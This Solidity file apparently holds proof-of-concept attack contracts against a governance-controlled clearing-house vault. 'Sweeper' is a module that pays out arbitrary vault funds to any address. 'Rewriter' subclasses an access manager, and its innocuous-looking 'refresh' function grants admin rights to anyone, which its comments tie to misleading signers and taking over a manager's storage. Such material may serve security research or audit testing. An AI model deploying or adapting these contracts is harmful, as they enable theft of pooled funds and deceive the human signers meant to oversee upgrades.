// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {AccessManager} from "@openzeppelin/contracts/access/manager/AccessManager.sol";

interface ISweptVault {
    function pay(address to, uint256 amount, uint32 account, uint256 uncovered)
        external
        returns (uint256 paid, uint64 id);
}

/// @title Code that a clearing house would run as its own, if a vote could give it modules.
contract Sweeper {
    ISweptVault private immutable VAULT;

    constructor(address vault) {
        VAULT = ISweptVault(vault);
    }

    function sweep(address to, uint256 amount) external {
        VAULT.pay(to, amount, 0, 0);
    }
}

/// @title Writes the owner's slot of an access manager that hands its storage to it.
contract Rewriter is AccessManager {
    constructor() AccessManager(address(1)) {}

    /// @notice What the screen of the signers calls "refresh": somebody is an admin, at once.
    function refresh(address who) external {
        _grantRole(ADMIN_ROLE, who, 0, 0);
    }
}
